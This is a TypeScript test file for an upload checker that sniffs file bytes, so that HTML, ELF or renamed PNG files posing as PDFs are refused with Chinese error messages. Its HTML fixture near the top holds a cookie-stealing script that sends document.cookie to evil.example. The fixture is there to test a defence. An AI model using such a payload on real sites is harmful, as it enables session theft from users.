// Issue 10 item 6: an upload is what its bytes are. HTML or ELF named x.pdf and declared application/pdf, or a PNG
// renamed .pdf, are refused or accepted by the checklist item's allowed types, with a Chinese message naming the
// item; nothing is stored on refusal. Runs on SQLite, and on the MongoDB-protocol server when MONGODB_URL is set.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkMaterialContent, sniffWithoutMagic } from '../../server/domain/applications/material-content.js';
import { sniffUpload } from '../../server/runtime/applications/sniff-upload.js';
import { multipartFile } from '../support/applicant-flow.js';
import { engineer, engineerForm } from '../support/engineer.js';
import { startHarness, type Harness } from '../support/harness.js';

const HTML = Buffer.from('<!DOCTYPE html>\n<html><body><script>document.location="https://evil.example/"+document.cookie</script></body></html>\n');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000' + '1f15c4890000000d49444154789c63000100000500010d0a2db40000000049454e44ae426082', 'hex');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');

const SUMMARY = '专业技术工作总结（述职报告）'; // accepts application/pdf only
const DIPLOMA = '学历、学位证书（含学信网备案表；国外学历须认证）'; // accepts PDF, JPG, PNG

describe('uploaded materials are what they claim', () => {
  let h: Harness;
  let appId = '';
  const zhang = () => h.as('zhang');
  const upload = (item: string, name: string, mime: string, bytes: Buffer) => {
    const { payload, headers } = multipartFile('file', name, mime, bytes);
    return zhang()({ method: 'POST', url: `/api/applications/${appId}/materials/${item}`, payload, headers });
  };
  const state = async () => {
    const app = (await zhang()({ method: 'GET', url: `/api/applications/${appId}` })).json() as { version: number; materials: unknown[] };
    return { version: app.version, materials: app.materials.length, audit: await h.platform.store.auditCount(), files: (await h.platform.store.listFiles!()).length };
  };

  beforeAll(async () => {
    h = await startHarness({ users: [engineer('zhang', '张工')] });
    const created = await zhang()({ method: 'POST', url: '/api/applications', payload: { campaignId: '2022', levelKey: 'gongcheng.zhongji' } });
    expect(created.statusCode, created.body).toBe(201);
    appId = created.json().id;
    await zhang()({ method: 'PUT', url: `/api/applications/${appId}/form`, payload: { form: engineerForm('张工'), version: created.json().version } });
  });
  afterAll(async () => h.close());

  it.each([
    ['HTML', 'summary', HTML, SUMMARY, 'PDF', 'HTML'],
    ['HTML', 'diploma', HTML, DIPLOMA, 'PDF、JPG、PNG', 'HTML'],
    ['ELF', 'summary', ELF, SUMMARY, 'PDF', 'ELF 可执行文件'],
    ['ELF', 'diploma', ELF, DIPLOMA, 'PDF、JPG、PNG', 'ELF 可执行文件'],
    ['a PNG', 'summary', PNG, SUMMARY, 'PDF', 'PNG'],
  ])('refuses %s named x.pdf and declared application/pdf for %s, storing nothing', async (_what, item, bytes, itemName, allowed, seen) => {
    const before = await state();
    const res = await upload(item, 'x.pdf', 'application/pdf', bytes);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({
      code: 'materials.bad_content',
      message: `「${itemName}」只接受 ${allowed} 文件，上传的内容是 ${seen}`,
      details: [{ code: 'materials.bad_content', message: `「${itemName}」只接受 ${allowed} 文件，上传的内容是 ${seen}`, pointer: `/materials/${item}` }],
    });
    expect(await state()).toEqual(before);
  });

  it('accepts a PNG renamed .pdf where the item allows PNG, and stores it as the PNG it is', async () => {
    const res = await upload('diploma', '学历证书.pdf', 'application/pdf', PNG);
    expect(res.statusCode, res.body).toBe(200);
    const m = (res.json().materials as { itemId: string; hash: string; name: string; mime: string }[]).find((x) => x.itemId === 'diploma')!;
    expect(m).toMatchObject({ name: '学历证书.png', mime: 'image/png' });
    const file = await zhang()({ method: 'GET', url: `/api/applications/${appId}/files/${m.hash}` });
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.rawPayload.equals(PNG)).toBe(true);
  });

  it('accepts a real PDF for a PDF-only item', async () => {
    const res = await upload('summary', '工作总结.pdf', 'application/pdf', PDF);
    expect(res.statusCode, res.body).toBe(200);
    expect((res.json().materials as { itemId: string; mime: string; name: string }[]).find((x) => x.itemId === 'summary')).toMatchObject({ mime: 'application/pdf', name: '工作总结.pdf' });
  });

  it('still refuses a real PDF declared as a type the item does not accept', async () => {
    const res = await upload('summary', 'x.png', 'image/png', PDF);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({ code: 'materials.bad_type', message: `「${SUMMARY}」只接受 PDF 文件，上传的文件声明为 image/png` });
  });
});

describe('content without magic bytes: the explicit text rule', () => {
  const item = { id: 'notes', name: '说明', accept: ['text/plain', 'text/csv'] };
  const check = async (bytes: Buffer, mime = 'text/plain') => checkMaterialContent(item, await sniffUpload(bytes), { mime, name: 'a.txt' });

  it('accepts plain UTF-8 text only where the item allows a text type', async () => {
    expect(await check(Buffer.from('工作说明\n第二行\n'))).toEqual({ ok: true, value: { mime: 'text/plain', name: 'a.txt' } });
    expect(await check(Buffer.from('a,b\n1,2\n'), 'text/csv')).toMatchObject({ ok: true, value: { mime: 'text/csv' } });
    const pdfOnly = checkMaterialContent({ id: 's', name: '总结', accept: ['application/pdf'] }, sniffWithoutMagic(Buffer.from('hello')), { mime: 'application/pdf', name: 'x.pdf' });
    expect(pdfOnly).toMatchObject({ ok: false, error: { message: '「总结」只接受 PDF 文件，上传的内容是 纯文本' } });
  });

  it('never takes markup, control bytes or invalid UTF-8 for text', async () => {
    expect(await check(Buffer.from('  <html><script>x</script>'))).toMatchObject({ ok: false, error: { message: '「说明」只接受 纯文本、CSV 文件，上传的内容是 HTML' } });
    expect(await check(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toMatchObject({ ok: false, error: { message: expect.stringContaining('上传的内容是 SVG') } });
    expect(await check(Buffer.from([0x68, 0x00, 0x69]))).toMatchObject({ ok: false, error: { message: expect.stringContaining('无法识别的二进制内容') } });
    expect(await check(Buffer.from([0xff, 0xfe, 0x41]))).toMatchObject({ ok: false });
    expect(await check(ELF)).toMatchObject({ ok: false, error: { message: expect.stringContaining('ELF 可执行文件') } });
  });
});
